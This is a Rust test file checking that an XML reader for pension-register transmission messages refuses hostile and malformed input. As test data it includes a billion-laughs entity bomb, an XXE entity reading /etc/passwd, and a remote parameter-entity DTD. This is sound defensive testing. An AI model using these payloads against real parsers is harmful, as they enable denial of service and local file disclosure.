//! Hostile and broken DT XML: each gets its specific error, never a panic, and nothing is
//! expanded or fetched.

use arcgw::dtxml::{
    self, ACKNOWLEDGEMENT_NAMESPACE, DtXmlError, ReadLimits, TRANSMISSION_NAMESPACE,
};

use crate::support::xmllint;

fn transmission_fixture() -> String {
    std::fs::read_to_string(xmllint::fixture("transmission-example.xml")).expect("fixture")
}

fn acknowledgement_fixture() -> String {
    std::fs::read_to_string(xmllint::fixture("acknowledgement-example.xml")).expect("fixture")
}

fn read_t(xml: impl AsRef<[u8]>) -> Result<arcgw::domain::Transmission, DtXmlError> {
    dtxml::read_transmission(xml.as_ref(), &ReadLimits::default())
}

fn read_a(xml: impl AsRef<[u8]>) -> Result<arcgw::domain::Acknowledgement, DtXmlError> {
    dtxml::read_acknowledgement(xml.as_ref(), &ReadLimits::default())
}

/// Replaces the first occurrence of `from`, which must be there.
fn replace_once(xml: &str, from: &str, to: &str) -> String {
    assert!(xml.contains(from), "fixture holds {from:?}");
    xml.replacen(from, to, 1)
}

/// Replaces the `n`-th (from 1) occurrence of `from`.
fn replace_nth(xml: &str, from: &str, to: &str, n: usize) -> String {
    let (i, _) = xml
        .match_indices(from)
        .nth(n - 1)
        .expect("occurrence present");
    format!("{}{}{}", &xml[..i], to, &xml[i + from.len()..])
}

/// A small transmission with a DOCTYPE spliced in after the declaration.
fn with_doctype(doctype: &str, body_text: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{doctype}\n<message xmlns=\"{TRANSMISSION_NAMESPACE}\" minorVersion=\"0\"><header>{body_text}</header></message>"
    )
}

#[test]
fn the_fixtures_read() {
    read_t(transmission_fixture()).expect("transmission fixture reads");
    read_a(acknowledgement_fixture()).expect("acknowledgement fixture reads");
}

#[test]
fn billion_laughs_is_refused_at_the_doctype() {
    let doctype = r#"<!DOCTYPE message [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>"#;
    let xml = with_doctype(doctype, "&lol9;");
    let err = read_t(&xml).unwrap_err();
    assert!(matches!(err, DtXmlError::Doctype { .. }), "{err}");
    assert!(
        err.to_string()
            .contains("DTDs and entity declarations are not accepted"),
        "{err}"
    );
    let err = read_a(xml.replace(TRANSMISSION_NAMESPACE, ACKNOWLEDGEMENT_NAMESPACE)).unwrap_err();
    assert!(matches!(err, DtXmlError::Doctype { .. }), "{err}");
}

#[test]
fn external_entities_are_refused() {
    let xml = with_doctype(
        r#"<!DOCTYPE message [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>"#,
        "<senderId>&xxe;</senderId>",
    );
    let err = read_t(&xml).unwrap_err();
    assert!(matches!(err, DtXmlError::Doctype { .. }), "{err}");
    assert!(
        !err.to_string().contains("root:"),
        "nothing was read: {err}"
    );
}

#[test]
fn parameter_entities_are_refused() {
    let xml = with_doctype(
        r#"<!DOCTYPE message [ <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; ]>"#,
        "",
    );
    assert!(matches!(read_t(&xml), Err(DtXmlError::Doctype { .. })));
}

#[test]
fn a_doctype_alone_is_refused() {
    let xml = replace_once(&transmission_fixture(), "?>\n", "?>\n<!DOCTYPE message>\n");
    assert!(matches!(read_t(&xml), Err(DtXmlError::Doctype { .. })));
}

#[test]
fn undeclared_entity_references_are_refused() {
    let xml = replace_once(
        &transmission_fixture(),
        "<reference>K-2026-000121</reference>",
        "<reference>&xxe;</reference>",
    );
    let err = read_t(&xml).unwrap_err();
    assert!(
        matches!(&err, DtXmlError::Entity { name, .. } if name == "xxe"),
        "{err}"
    );
    // The predefined ones and character references are fine.
    let xml = replace_once(
        &transmission_fixture(),
        "<reference>K-2026-000121</reference>",
        "<reference>K&amp;&#x4B;&#75;&lt;&gt;&apos;&quot;</reference>",
    );
    let t = read_t(&xml).expect("predefined entities read");
    assert_eq!(t.announcements[0].reference().as_str(), "K&KK<>'\"");
    // In an attribute value too.
    let xml = replace_once(
        &transmission_fixture(),
        "minorVersion=\"1\"",
        "minorVersion=\"&zero;\"",
    );
    assert!(matches!(read_t(&xml), Err(DtXmlError::Entity { .. })));
}

#[test]
fn processing_instructions_are_refused() {
    let xml = replace_once(
        &transmission_fixture(),
        "?>\n",
        "?>\n<?xml-stylesheet href=\"http://example.invalid/x.xsl\"?>\n",
    );
    let err = read_t(&xml).unwrap_err();
    assert!(
        matches!(&err, DtXmlError::ProcessingInstruction { target, .. } if target == "xml-stylesheet"),
        "{err}"
    );
}

#[test]
fn oversize_input_is_refused_before_parsing() {
    let xml = transmission_fixture();
    let small = ReadLimits {
        max_bytes: 100,
        ..ReadLimits::default()
    };
    let err = dtxml::read_transmission(xml.as_bytes(), &small).unwrap_err();
    assert_eq!(
        err,
        DtXmlError::TooLarge {
            size: xml.len(),
            limit: 100
        }
    );
    assert!(err.to_string().contains(&xml.len().to_string()) && err.to_string().contains("100"));

    // 50 MB against the default limit of 64 MiB: a valid document padded with a comment
    // reads; a 50 MB value is refused with a short error that does not echo it.
    let mut big = replace_once(&xml, "</content>", "");
    big = replace_once(&big, "</message>", "");
    big.push_str("<!--");
    big.push_str(&"x".repeat(50 * 1000 * 1000));
    big.push_str("-->\n</content>\n</message>\n");
    assert!(big.len() > 50_000_000);
    assert_eq!(read_t(&big).expect("reads").announcements.len(), 11);
    let long_reference = replace_once(
        &xml,
        "<reference>K-2026-000121</reference>",
        &format!("<reference>{}</reference>", "x".repeat(50 * 1000 * 1000)),
    );
    let err = read_t(&long_reference).unwrap_err();
    assert!(
        matches!(&err, DtXmlError::Value { path, .. } if path == "content/announcement[1]/reference"),
        "{err}"
    );
    assert!(err.to_string().len() < 300, "{err}");
    // 50 MB over a 40 MB limit.
    let limit = ReadLimits {
        max_bytes: 40 * 1000 * 1000,
        ..ReadLimits::default()
    };
    assert!(matches!(
        dtxml::read_transmission(big.as_bytes(), &limit),
        Err(DtXmlError::TooLarge { .. })
    ));
    // 70 MB over the default of 64 MiB.
    let huge = vec![b' '; 70 * 1000 * 1000];
    assert!(matches!(read_t(&huge), Err(DtXmlError::TooLarge { .. })));
}

#[test]
fn deep_nesting_is_refused() {
    let depth = 100_000;
    let mut xml = format!("<message xmlns=\"{TRANSMISSION_NAMESPACE}\" minorVersion=\"0\">");
    xml.push_str(&"<header>".repeat(depth));
    xml.push_str(&"</header>".repeat(depth));
    xml.push_str("</message>");
    let err = read_t(&xml).unwrap_err();
    assert!(
        matches!(&err, DtXmlError::TooDeep { limit: 32, .. }),
        "{err}"
    );
    // A small limit refuses even the valid fixture, whose messages nest 7 deep.
    let shallow = ReadLimits {
        max_depth: 6,
        ..ReadLimits::default()
    };
    let err = dtxml::read_transmission(transmission_fixture().as_bytes(), &shallow).unwrap_err();
    assert!(
        matches!(&err, DtXmlError::TooDeep { path, limit: 6 } if path == "content/announcement/collection/beneficiary/otherPerson/vn"),
        "{err}"
    );
}

#[test]
fn invalid_utf8_is_refused_with_its_offset() {
    let xml = transmission_fixture();
    let at = xml.find("K-2026-000121").expect("reference");
    let mut bytes = xml.into_bytes();
    bytes[at] = 0xFF;
    assert_eq!(read_t(&bytes), Err(DtXmlError::NotUtf8 { offset: at }));
    // Latin-1 declared and used.
    let latin1 = b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><message>M\xFCller</message>";
    assert!(matches!(read_t(latin1), Err(DtXmlError::NotUtf8 { .. })));
    // Declared Latin-1 in plain ASCII: refused by the declaration check.
    let declared = replace_once(&transmission_fixture(), "UTF-8", "ISO-8859-1");
    assert!(matches!(
        read_t(&declared),
        Err(DtXmlError::Declaration { .. })
    ));
    let xml11 = replace_once(
        &transmission_fixture(),
        "version=\"1.0\"",
        "version=\"1.1\"",
    );
    assert!(matches!(
        read_t(&xml11),
        Err(DtXmlError::Declaration { .. })
    ));
}

#[test]
fn characters_xml_does_not_allow_are_refused() {
    let xml = replace_once(
        &transmission_fixture(),
        "K-2026-000121",
        "K-2026-\u{1}00121",
    );
    assert!(matches!(
        read_t(&xml),
        Err(DtXmlError::IllegalCharacter { code: 1, .. })
    ));
    let xml = replace_once(&transmission_fixture(), "K-2026-000121", "K-2026-&#0;00121");
    let err = read_t(&xml).unwrap_err();
    assert!(
        matches!(err, DtXmlError::IllegalCharacter { code: 0, .. }),
        "{err}"
    );
}

#[test]
fn wrong_namespace_is_refused() {
    let xml = transmission_fixture().replace(TRANSMISSION_NAMESPACE, "urn:example:other");
    let err = read_t(&xml).unwrap_err();
    assert_eq!(
        err,
        DtXmlError::WrongNamespace {
            path: "message".to_string(),
            expected: TRANSMISSION_NAMESPACE,
            found: Some("urn:example:other".to_string()),
        }
    );
    // An acknowledgement is not a transmission, and the other way round.
    assert!(matches!(
        read_t(acknowledgement_fixture()),
        Err(DtXmlError::WrongNamespace { .. })
    ));
    assert!(matches!(
        read_a(transmission_fixture()),
        Err(DtXmlError::WrongNamespace { .. })
    ));
    // An element deeper down in another namespace.
    let xml = replace_once(
        &transmission_fixture(),
        "<reference>",
        "<reference xmlns=\"urn:example:other\">",
    );
    let err = read_t(&xml).unwrap_err();
    assert!(
        matches!(&err, DtXmlError::WrongNamespace { path, .. } if path == "content/announcement[1]/reference"),
        "{err}"
    );
}

#[test]
fn missing_namespace_is_refused() {
    let xml = replace_once(
        &transmission_fixture(),
        &format!(" xmlns=\"{TRANSMISSION_NAMESPACE}\""),
        "",
    );
    let err = read_t(&xml).unwrap_err();
    assert!(
        matches!(&err, DtXmlError::WrongNamespace { found: None, .. }),
        "{err}"
    );
    assert!(err.to_string().contains("missing"), "{err}");
}

#[test]
fn wrong_root_is_refused() {
    let xml = transmission_fixture()
        .replace("<message ", "<delivery ")
        .replace("</message>", "</delivery>");
    assert_eq!(
        read_t(&xml),
        Err(DtXmlError::WrongRoot {
            expected: "message",
            found: "delivery".to_string()
        })
    );
}

#[test]
fn truncated_documents_are_refused() {
    let xml = transmission_fixture();
    let cut = &xml[..xml.find("<closingMonth>").expect("collection")];
    let err = read_t(cut).unwrap_err();
    assert!(
        matches!(&err, DtXmlError::Truncated { path } if path == "content/announcement/collection"),
        "{err}"
    );
    // Cut inside a tag.
    let cut = &xml[..xml.find("<closingMonth>").expect("collection") + 5];
    assert!(matches!(
        read_t(cut),
        Err(DtXmlError::Malformed { .. } | DtXmlError::Truncated { .. })
    ));
    assert!(matches!(read_t(""), Err(DtXmlError::Malformed { .. })));
    // Every prefix of the fixture is refused without a panic.
    for end in (0..xml.len() - 2).step_by(7) {
        if xml.is_char_boundary(end) {
            assert!(read_t(&xml[..end]).is_err(), "prefix of {end} bytes");
        }
    }
}

#[test]
fn count_mismatch_is_refused_both_ways() {
    let xml = transmission_fixture();
    let more = replace_once(
        &xml,
        "<numberOfAnnouncements>11</numberOfAnnouncements>",
        "<numberOfAnnouncements>12</numberOfAnnouncements>",
    );
    assert_eq!(
        read_t(&more),
        Err(DtXmlError::CountMismatch {
            element: "numberOfAnnouncements",
            declared: 12,
            actual: 11
        })
    );
    let fewer = replace_once(
        &xml,
        "<numberOfAnnouncements>11</numberOfAnnouncements>",
        "<numberOfAnnouncements>10</numberOfAnnouncements>",
    );
    assert!(matches!(
        read_t(&fewer),
        Err(DtXmlError::CountMismatch {
            declared: 10,
            actual: 11,
            ..
        })
    ));
    let ack = acknowledgement_fixture();
    let more = replace_once(
        &ack,
        "<numberOfEntries>6</numberOfEntries>",
        "<numberOfEntries>60</numberOfEntries>",
    );
    assert!(matches!(
        read_a(&more),
        Err(DtXmlError::CountMismatch {
            element: "numberOfEntries",
            declared: 60,
            actual: 6
        })
    ));
    let fewer = replace_once(
        &ack,
        "<numberOfEntries>6</numberOfEntries>",
        "<numberOfEntries>0</numberOfEntries>",
    );
    assert!(matches!(
        read_a(&fewer),
        Err(DtXmlError::CountMismatch {
            declared: 0,
            actual: 6,
            ..
        })
    ));
}

#[test]
fn a_bad_check_digit_names_the_element() {
    // The third announcement's vn: 756.1234.5678.97 with check digit 3.
    let xml = replace_nth(
        &transmission_fixture(),
        "<vn>7561234567897</vn>",
        "<vn>7561234567893</vn>",
        2,
    );
    let err = read_t(&xml).unwrap_err();
    assert_eq!(
        err,
        DtXmlError::Value {
            path: "content/announcement[3]/vn".to_string(),
            message: "check digit is 7, not 3".to_string(),
        }
    );
    assert!(!err.to_string().contains("756123456789"), "{err}");
    // The XSD cannot see it: the reader is stricter here.
    assert!(!xmllint::refuses(&xmllint::transmission_schema(), &xml));
}

#[test]
fn unknown_elements_are_refused() {
    let xml = replace_once(
        &transmission_fixture(),
        "<keyCode>81</keyCode>",
        "<keyCode>81</keyCode><comment>urgent</comment>",
    );
    let err = read_t(&xml).unwrap_err();
    assert_eq!(
        err,
        DtXmlError::UnknownElement {
            path: "content/announcement[3]".to_string(),
            name: "comment".to_string()
        }
    );
    assert!(xmllint::refuses(&xmllint::transmission_schema(), &xml));
}

#[test]
fn the_guard_refuses_before_the_shape_check_wherever_each_finds_its_fault() {
    // The shape check follows the guard's own pass: its fault early in the document must not
    // hide a hostile or broken part later, which the guard refuses as when it ran alone first.
    let early_shape_fault = replace_once(
        &transmission_fixture(),
        "<keyCode>81</keyCode>",
        "<keyCode>81</keyCode><comment>urgent</comment>",
    );
    let truncated = &early_shape_fault[..early_shape_fault.rfind("</content>").expect("content")];
    assert!(
        matches!(read_t(truncated), Err(DtXmlError::Truncated { path }) if path == "content"),
        "{:?}",
        read_t(truncated)
    );
    let last = early_shape_fault
        .rfind("</message>")
        .expect("the root's end");
    let entity_later = format!(
        "{}<!-- &amp; -->{}",
        &early_shape_fault[..last],
        &early_shape_fault[last..]
    )
    .replacen("</content>", "&xxe;</content>", 1);
    assert!(
        matches!(&read_t(&entity_later), Err(DtXmlError::Entity { name, .. }) if name == "xxe"),
        "{:?}",
        read_t(&entity_later)
    );
    let second_root = format!("{early_shape_fault}<message/>");
    assert!(
        matches!(read_t(&second_root), Err(DtXmlError::Malformed { .. })),
        "{:?}",
        read_t(&second_root)
    );
    // Alone, the shape check's fault is the one given, with its place.
    assert!(matches!(
        read_t(&early_shape_fault),
        Err(DtXmlError::UnknownElement { path, name }) if path == "content/announcement[3]" && name == "comment"
    ));
}

#[test]
fn four_observations_are_refused() {
    let observation = "<observation>\n        <code>7</code>\n      </observation>";
    let ack = acknowledgement_fixture();
    let xml = replace_once(&ack, observation, &[observation; 3].join("\n        "));
    let err = read_a(&xml).unwrap_err();
    assert_eq!(
        err,
        DtXmlError::TooMany {
            path: "content/entry[2]".to_string(),
            name: "observation".to_string(),
            max: 3
        }
    );
    assert!(xmllint::refuses(&xmllint::acknowledgement_schema(), &xml));
}

#[test]
fn structural_errors_name_their_place() {
    let t = transmission_fixture();
    // Out of order: the vn after the particulars.
    let xml = replace_once(&t, "<vn>7561234567897</vn>\n      <person>", "<person>");
    let xml = replace_nth(
        &xml,
        "</person>",
        "</person>\n      <vn>7561234567897</vn>",
        2,
    );
    let err = read_t(&xml).unwrap_err();
    assert!(
        matches!(&err, DtXmlError::MisplacedElement { path, name, before } if path == "content/announcement[2]" && name == "vn" && before == "person|collection|domicile|splitting|splittingRevocation|collectionRevocation|order"),
        "{err}"
    );
    // Swapped required elements: the first one is missing where it belongs.
    let xml = replace_once(
        &t,
        "<reference>K-2026-000121</reference>\n      <keyCode>11</keyCode>",
        "<keyCode>11</keyCode>\n      <reference>K-2026-000121</reference>",
    );
    assert!(matches!(
        read_t(&xml),
        Err(DtXmlError::MissingElement { path, name }) if path == "content/announcement[1]" && name == "reference"
    ));
    // Missing.
    let xml = replace_once(&t, "<keyCode>11</keyCode>", "");
    assert!(matches!(
        read_t(&xml),
        Err(DtXmlError::MissingElement { path, name }) if path == "content/announcement[1]" && name == "keyCode"
    ));
    // Text among elements.
    let xml = replace_once(&t, "<keyCode>11</keyCode>", "<keyCode>11</keyCode>oops");
    assert!(matches!(
        read_t(&xml),
        Err(DtXmlError::UnexpectedText { path }) if path == "content/announcement[1]"
    ));
    // Two particulars.
    let xml = replace_once(
        &t,
        "<splittingRevocation>",
        "<splitting><spouseVn>7569217076985</spouseVn><splitYear><calendarYear>1990</calendarYear></splitYear></splitting><splittingRevocation>",
    );
    assert!(matches!(
        read_t(&xml),
        Err(DtXmlError::TooMany { max: 1, .. })
    ));
    // An attribute the schema does not have.
    let xml = replace_once(&t, "<header>", "<header id=\"1\">");
    assert!(matches!(
        read_t(&xml),
        Err(DtXmlError::UnexpectedAttribute { path, name }) if path == "header" && name == "id"
    ));
    // No minorVersion.
    let xml = replace_once(&t, " minorVersion=\"1\"", "");
    assert!(matches!(
        read_t(&xml),
        Err(DtXmlError::MissingAttribute { .. })
    ));
    // A second root, text after the root.
    assert!(matches!(
        read_t(format!("{t}<message/>")),
        Err(DtXmlError::Malformed { .. })
    ));
    assert!(matches!(
        read_t(format!("{t}junk")),
        Err(DtXmlError::Malformed { .. })
    ));
    // Mismatched end tag.
    let xml = replace_once(&t, "</keyCode>", "</keycode>");
    assert!(matches!(read_t(&xml), Err(DtXmlError::Malformed { .. })));
}

#[test]
fn values_breaking_rules_name_their_place() {
    let t = transmission_fixture();
    let cases = [
        (
            "<keyCode>11</keyCode>",
            "<keyCode>22</keyCode>",
            "content/announcement[1]/keyCode",
            "no longer in force",
        ),
        (
            "<keyCode>11</keyCode>",
            "<keyCode>81</keyCode>",
            "content/announcement[1]",
            "annex 9",
        ),
        (
            "<officeIdentifier>66</officeIdentifier>",
            "<officeIdentifier>0</officeIdentifier>",
            "content/announcement[1]/deliveryOffice/officeIdentifier",
            "000",
        ),
        (
            "<countryOfOrigin>998</countryOfOrigin>",
            "<countryOfOrigin>997</countryOfOrigin>",
            "content/announcement[1]/person/countryOfOrigin",
            "BFS",
        ),
        (
            "<code>1</code>",
            "<code>2</code>",
            "content/announcement[3]/collection/domicile",
            "N. 3118",
        ),
        (
            "<closingMonth>2026-12</closingMonth>",
            "<closingMonth>2026-13</closingMonth>",
            "content/announcement[3]/collection/closingMonth",
            "YYYY-MM",
        ),
        (
            "<messageType>2011</messageType>",
            "<messageType>2012</messageType>",
            "header/messageType",
            "2011",
        ),
        (
            "<calendarYear>1996</calendarYear>",
            "<calendarYear>1997</calendarYear>",
            "content/announcement[7]/splitting",
            "once",
        ),
    ];
    for (from, to, path, words) in cases {
        let xml = replace_once(&t, from, to);
        match read_t(&xml) {
            Err(DtXmlError::Value { path: p, message }) => {
                assert_eq!(p, path, "{to}: {message}");
                assert!(message.contains(words), "{to}: {message}");
            }
            other => panic!("{to}: expected a value error at {path}, got {other:?}"),
        }
    }
    // An announcement that needs an AVS number and has none (the fifth, key 63).
    let xml = replace_once(
        &t,
        "<vn>7569217076985</vn>\n    </announcement>",
        "</announcement>",
    );
    assert!(matches!(
        read_t(&xml),
        Err(DtXmlError::Value { path, .. }) if path == "content/announcement[5]/vn"
    ));
}

#[test]
fn names_must_be_sent_fitted() {
    let t = transmission_fixture();
    let long = replace_once(
        &t,
        "<firstNames>Anton Hugo</firstNames>",
        "<firstNames>Anton Hugo Maria Theresia Luise Marie-Claire</firstNames>",
    );
    let err = read_t(&long).unwrap_err();
    assert!(
        matches!(&err, DtXmlError::Value { path, message } if path == "content/announcement[2]/person" && message.contains("40 positions")),
        "{err}"
    );
    assert!(
        !err.to_string().contains("Brunner"),
        "no name in errors: {err}"
    );
    let nn = replace_once(
        &t,
        "<officialName>Keller-Dubois</officialName>",
        "<officialName>Keller-Dubois</officialName><firstNames>NN</firstNames>",
    );
    assert!(matches!(read_t(&nn), Err(DtXmlError::Value { .. })));
}

#[test]
fn garbage_never_panics() {
    let t = transmission_fixture();
    let a = acknowledgement_fixture();
    let mut inputs: Vec<Vec<u8>> = vec![
        b"".to_vec(),
        b"<".to_vec(),
        b"<?xml".to_vec(),
        b"<message".to_vec(),
        b"\xEF\xBB\xBF".to_vec(),
        b"<a:message xmlns:b=\"x\"/>".to_vec(),
        b"<message xmlns=\"urn:arcgw:xmlns:arc-transmission:1\" minorVersion=\"99999999\"/>".to_vec(),
        b"<message xmlns=\"urn:arcgw:xmlns:arc-transmission:1\" minorVersion=\"0\" minorVersion=\"0\"/>".to_vec(),
        b"<![CDATA[x]]>".to_vec(),
        b"<!-- a -- b -->".to_vec(),
    ];
    // Every single-byte deletion in the first part of each fixture.
    for doc in [&t, &a] {
        for i in (0..doc.len().min(3000)).step_by(3) {
            let mut bytes = doc.as_bytes().to_vec();
            bytes.remove(i);
            inputs.push(bytes);
        }
    }
    for input in &inputs {
        let _ = dtxml::read_transmission(input, &ReadLimits::default());
        let _ = dtxml::read_acknowledgement(input, &ReadLimits::default());
    }
}

#[test]
fn a_byte_order_mark_is_accepted() {
    let mut bytes = b"\xEF\xBB\xBF".to_vec();
    bytes.extend_from_slice(transmission_fixture().as_bytes());
    read_t(&bytes).expect("UTF-8 with a byte-order mark");
}

/// Broken documents that the XSD can see are broken: xmllint and the reader both refuse each.
#[test]
fn the_xsds_and_the_reader_agree_on_broken_documents() {
    let t = transmission_fixture();
    let transmission_cases: &[(&str, &str)] = &[
        ("<keyCode>11</keyCode>", "<keyCode>22</keyCode>"),
        ("<keyCode>11</keyCode>", "<keyCode>011</keyCode>"),
        ("<keyCode>11</keyCode>", "<keyCode>12</keyCode>"),
        ("<vn>7561234567897</vn>", "<vn>756123456789</vn>"),
        ("<vn>7561234567897</vn>", "<vn>7571234567897</vn>"),
        (
            "<officeIdentifier>66</officeIdentifier>",
            "<officeIdentifier>0</officeIdentifier>",
        ),
        (
            "<officeIdentifier>66</officeIdentifier>",
            "<officeIdentifier>1000</officeIdentifier>",
        ),
        ("<branch>0</branch>", "<branch>-1</branch>"),
        (
            "<reference>K-2026-000121</reference>",
            "<reference>K-2026-000121-0123456789</reference>",
        ),
        (
            "<reference>K-2026-000121</reference>",
            "<reference> K-2026</reference>",
        ),
        (
            "<reference>K-2026-000121</reference>",
            "<reference>Zürich</reference>",
        ),
        (
            "<reference>K-2026-000121</reference>",
            "<reference></reference>",
        ),
        (
            "<officialName>Brunner</officialName>",
            "<officialName>Brunner3</officialName>",
        ),
        (
            "<officialName>Brunner</officialName>",
            "<officialName>Brunner </officialName>",
        ),
        (
            "<firstNames>Anton Hugo</firstNames>",
            "<firstNames>Anton  Hugo</firstNames>",
        ),
        (
            "<firstNames>Anton Hugo</firstNames>",
            "<firstNames></firstNames>",
        ),
        ("<sex>1</sex>", "<sex>3</sex>"),
        (
            "<yearMonthDay>1963-04-12</yearMonthDay>",
            "<yearMonthDay>1963-02-30</yearMonthDay>",
        ),
        (
            "<yearMonthDay>1963-04-12</yearMonthDay>",
            "<yearMonthDay>1963-04-12Z</yearMonthDay>",
        ),
        (
            "<yearMonthDay>1963-04-12</yearMonthDay>",
            "<year>1963-04</year>",
        ),
        (
            "<countryOfOrigin>100</countryOfOrigin>",
            "<countryOfOrigin>997</countryOfOrigin>",
        ),
        (
            "<closingMonth>2026-12</closingMonth>",
            "<closingMonth>1947-12</closingMonth>",
        ),
        ("<code>1</code>", "<code>4</code>"),
        (
            "<calendarYear>1996</calendarYear>",
            "<calendarYear>1947</calendarYear>",
        ),
        ("<specialKey>4</specialKey>", "<specialKey>6</specialKey>"),
        ("<insuredPerson/>", "<insuredPerson>1</insuredPerson>"),
        ("<insuredPerson/>", ""),
        (
            "<messageType>2011</messageType>",
            "<messageType>2012</messageType>",
        ),
        (
            "<subMessageType>000101</subMessageType>",
            "<subMessageType>000201</subMessageType>",
        ),
        ("<action>1</action>", "<action>6</action>"),
        (
            "<responseExpected>true</responseExpected>",
            "<responseExpected>false</responseExpected>",
        ),
        (
            "<testDeliveryFlag>true</testDeliveryFlag>",
            "<testDeliveryFlag>1</testDeliveryFlag>",
        ),
        (
            "<messageDate>2026-11-23T16:00:00Z</messageDate>",
            "<messageDate>2026-11-23T16:00:00.5Z</messageDate>",
        ),
        (
            "<messageDate>2026-11-23T16:00:00Z</messageDate>",
            "<messageDate>2026-11-23T17:00:00+01:00</messageDate>",
        ),
        (
            "<senderId>T7-066000-1</senderId>",
            "<senderId>T0-066000-1</senderId>",
        ),
        (
            "<messageId>0f8e2a9c-3b1d-4c55-9a1e-2f3c4d5e6f70</messageId>",
            "<messageId>0f8e2a9c-3b1d-4c55-9a1e-2f3c4d5e6f70a</messageId>",
        ),
        (
            "<messageId>0f8e2a9c-3b1d-4c55-9a1e-2f3c4d5e6f70</messageId>",
            "<messageId>a_b</messageId>",
        ),
        ("<product>arcgw</product>", "<product></product>"),
        ("<numberOfAnnouncements>11</numberOfAnnouncements>", ""),
        (
            "<numberOfAnnouncements>11</numberOfAnnouncements>",
            "<numberOfAnnouncements>-11</numberOfAnnouncements>",
        ),
        (" minorVersion=\"1\"", ""),
        (" minorVersion=\"1\"", " minorVersion=\"zero\""),
        ("<header>", "<header id=\"1\">"),
        (
            "<splittingRevocation>",
            "<splittingRevocation><spouseVn>7569217076985</spouseVn></splittingRevocation><splittingRevocation>",
        ),
    ];
    let a = acknowledgement_fixture();
    let acknowledgement_cases: &[(&str, &str)] = &[
        (
            "<processingCode>3</processingCode>",
            "<processingCode>5</processingCode>",
        ),
        (
            "<processingCode>3</processingCode>",
            "<processingCode></processingCode>",
        ),
        (
            "<wrongField>5</wrongField>",
            "<wrongField>5</wrongField><wrongField>6</wrongField><wrongField>7</wrongField>",
        ),
        ("<wrongField>5</wrongField>", "<wrongField>256</wrongField>"),
        ("<code>123</code>", "<code>65536</code>"),
        ("<issueDate>2027-03-24</issueDate>", ""),
        ("<acknowledgementDate>2027-03-25</acknowledgementDate>", ""),
        ("<action>6</action>", "<action>1</action>"),
        (
            "<responseExpected>false</responseExpected>",
            "<responseExpected>true</responseExpected>",
        ),
        (
            "<subMessageType>000201</subMessageType>",
            "<subMessageType>000101</subMessageType>",
        ),
        (
            "<accountFund>",
            "<otherVn>7569217076985</otherVn><accountFund>",
        ),
        (
            "<processingCode>0</processingCode>",
            "<processingCode>0</processingCode><invitationToInvestigate/><invitationToInvestigate/>",
        ),
    ];
    for (schema, fixture, cases, read) in [
        (
            xmllint::transmission_schema(),
            &t,
            transmission_cases,
            (|xml: &str| read_t(xml).err()) as fn(&str) -> Option<DtXmlError>,
        ),
        (
            xmllint::acknowledgement_schema(),
            &a,
            acknowledgement_cases,
            |xml: &str| read_a(xml).err(),
        ),
    ] {
        let documents: Vec<String> = cases
            .iter()
            .map(|(from, to)| replace_once(fixture, from, to))
            .collect();
        let verdicts = xmllint::verdicts(&schema, &documents);
        for (((from, to), document), valid) in cases.iter().zip(&documents).zip(verdicts) {
            assert!(!valid, "the XSD accepts {from} → {to}");
            assert!(read(document).is_some(), "the reader accepts {from} → {to}");
        }
    }
}

#[test]
fn many_attributes_and_namespace_bindings_are_refused_quickly() {
    let attributes: String = (0..200_000).map(|i| format!(" a{i}=\"x\"")).collect();
    let xml =
        format!("<message xmlns=\"{TRANSMISSION_NAMESPACE}\" minorVersion=\"0\"{attributes}/>");
    assert!(matches!(
        read_t(&xml),
        Err(DtXmlError::UnexpectedAttribute { .. })
    ));
    let duplicated = format!(
        "<message xmlns=\"{TRANSMISSION_NAMESPACE}\" minorVersion=\"0\"{attributes} a7=\"y\"/>"
    );
    assert!(matches!(
        read_t(&duplicated),
        Err(DtXmlError::Malformed { .. })
    ));
    let bindings: String = (0..10_000)
        .map(|i| format!(" xmlns:p{i}=\"urn:x:{i}\""))
        .collect();
    let xml = format!("<message xmlns=\"{TRANSMISSION_NAMESPACE}\" minorVersion=\"0\"{bindings}/>");
    assert!(matches!(read_t(&xml), Err(DtXmlError::Malformed { .. })));
}
